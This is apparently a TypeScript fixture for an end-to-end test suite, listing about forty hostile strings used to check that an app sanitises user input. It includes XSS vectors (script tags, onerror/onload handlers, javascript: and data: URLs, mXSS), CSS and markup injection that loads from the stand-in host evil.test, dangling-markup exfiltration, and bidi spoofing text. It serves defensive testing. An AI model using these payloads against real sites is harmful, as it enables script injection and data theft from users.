/**
 * Hostile strings for the hostile-input suite (tests/e2e/hostile-input.spec.ts).
 * Every payload that could run script calls `__pwned('<its name>')` (a binding the spec exposes),
 * every one that could load something points at evil.test, so the spec's detectors see any that
 * gets through. None is a valid colour; `data-svg-base64` is a valid ImageData on purpose (an SVG
 * shown through <img> runs nothing).
 */
export interface Payload {
  /** Short, unique; recorded with recordAttempts('payload', …). */
  name: string;
  value: string;
}

const svgWithScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned('data-svg-base64')"><script>__pwned('data-svg-base64')</script></svg>`;

export const payloads: readonly Payload[] = [
  { name: 'script-tag', value: `<script>__pwned('script-tag')</script>` },
  { name: 'img-onerror', value: `<img src=x onerror="__pwned('img-onerror')">` },
  { name: 'svg-onload', value: `<svg onload="__pwned('svg-onload')"><circle r="5"/></svg>` },
  { name: 'svg-animate-href', value: `<svg><a><animate attributeName="href" values="javascript:__pwned('svg-animate-href')"/><text y="20">svg link</text></a></svg>` },
  { name: 'mathml-href', value: `<math><maction actiontype="statusline" xlink:href="javascript:__pwned('mathml-href')">math</maction></math>` },
  { name: 'a-javascript-href', value: `<a href="javascript:__pwned('a-javascript-href')">click</a>` },
  { name: 'javascript-url', value: `javascript:__pwned('javascript-url')` },
  { name: 'javascript-url-tab-entity', value: `jav&#x09;ascript:__pwned('javascript-url-tab-entity')` },
  { name: 'vbscript-url', value: `vbscript:msgbox("vbscript-url")` },
  { name: 'data-html-url', value: `data:text/html,<script>__pwned('data-html-url')</script>` },
  { name: 'data-svg-base64', value: `data:image/svg+xml;base64,${Buffer.from(svgWithScript).toString('base64')}` },
  { name: 'protocol-relative-image', value: '//evil.test/protocol-relative.png' },
  { name: 'style-breakout', value: `</style><script>__pwned('style-breakout')</script><style>body{display:none}` },
  { name: 'attribute-breakout', value: `" onmouseover="__pwned('attribute-breakout')" x="` },
  { name: 'css-remote-url', value: 'red; background:url(http://evil.test/css-remote-url.png)' },
  { name: 'css-expression', value: `expression(__pwned('css-expression'))` },
  { name: 'css-block-breakout', value: '#fff}body{display:none}html{background:url(https://evil.test/css-block-breakout.png)' },
  { name: 'css-import', value: '@import url("https://evil.test/css-import.css");' },
  { name: 'style-tag', value: '<style>body{display:none} *{background:url(https://evil.test/style-tag.png)!important}</style>' },
  { name: 'style-attribute', value: '<span style="position:fixed;inset:0;background:red;background-image:url(https://evil.test/style-attribute.png)">cover</span>' },
  { name: 'remote-img', value: '<img src="https://evil.test/remote-img.png" alt="pixel">' },
  { name: 'dangling-markup', value: `<img src='https://evil.test/dangling-markup?` },
  { name: 'base-href', value: '<base href="https://evil.test/">' },
  { name: 'meta-refresh', value: '<meta http-equiv="refresh" content="0;url=https://evil.test/meta-refresh">' },
  { name: 'link-stylesheet', value: '<link rel="stylesheet" href="https://evil.test/link-stylesheet.css">' },
  { name: 'iframe-srcdoc', value: `<iframe srcdoc="<script>parent.__pwned('iframe-srcdoc')</script>"></iframe>` },
  { name: 'object-embed', value: '<object data="https://evil.test/object.swf"></object><embed src="https://evil.test/embed.swf">' },
  { name: 'form-action', value: '<form action="https://evil.test/form-action"><button formaction="https://evil.test/formaction">Go</button></form>' },
  { name: 'a-named-target', value: '<a href="https://evil.test/a-named-target" target="pwn" rel="opener">named window</a>' },
  { name: 'area-named-target', value: '<map name="pwnmap"><area shape="rect" coords="0,0,50,50" href="https://evil.test/area-named-target" target="pwn" alt="area"></map>' },
  { name: 'area-blank-target', value: '<map name="pwnmap2"><area shape="default" href="https://evil.test/area-blank-target" target="_blank" alt="area"></map>' },
  { name: 'noscript-mxss', value: `<noscript><p title="</noscript><img src=x onerror=__pwned('noscript-mxss')>">` },
  { name: 'html-entities', value: `&lt;script&gt;__pwned('html-entities')&lt;/script&gt; &amp;amp; &#60;b&#62;` },
  { name: 'entity-encoded-handler', value: `<img src=x onerror="&#95;&#95;pwned&#40;'entity-encoded-handler'&#41;">` },
  { name: 'template-literal', value: "${__pwned('template-literal')} `${1+1}`" },
  { name: 'i18next-interpolation', value: '{{name}} {{- name}} {{count, number}}' },
  { name: 'i18next-nesting', value: '$t(SignOut) $t(ProductImprovementsDescription) $t(x, {"lng": "ar"})' },
  { name: 'rtl-zero-width', value: '\u202Egnp.exe\u202C\u200B\u200D\uFEFF\u2066trusted\u2069' },
  { name: 'very-long', value: `${'W'.repeat(4000)}<script>__pwned('very-long')</script>` },
];
